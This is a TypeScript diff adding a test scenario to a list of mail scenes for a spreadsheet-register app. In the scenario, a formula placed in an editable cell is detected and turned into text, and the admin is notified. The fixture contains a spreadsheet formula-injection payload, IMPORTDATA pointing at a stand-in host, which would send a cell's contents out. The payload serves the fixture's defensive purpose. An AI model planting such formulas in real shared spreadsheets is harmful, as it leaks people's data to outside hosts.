@@ -301,6 +301,26 @@ export const mailScenes: readonly MailScene[] = [
     ],
   },
   {
+    kind: "formula-found",
+    picture: "mail-formula-found.png",
+    title: "A formula that was taken out",
+    who: "District lead and admin; of a sealed register its reader.",
+    when: "Within the hour, where a cell that people may edit holds a formula. It is text from then on.",
+    to: lead,
+    events: [
+      { submit: atRisk },
+      {
+        edit: {
+          tab: "Cases",
+          case: "26-0001",
+          set: { notes: '=IMPORTDATA("https://a.example/?q="&H3)' },
+        },
+        as: "contact",
+      },
+      { advance: "PT65M" },
+    ],
+  },
+  {
     kind: "tabs-made-again",
     picture: "mail-tabs-made-again.png",
     title: "A tab that was deleted and made again",
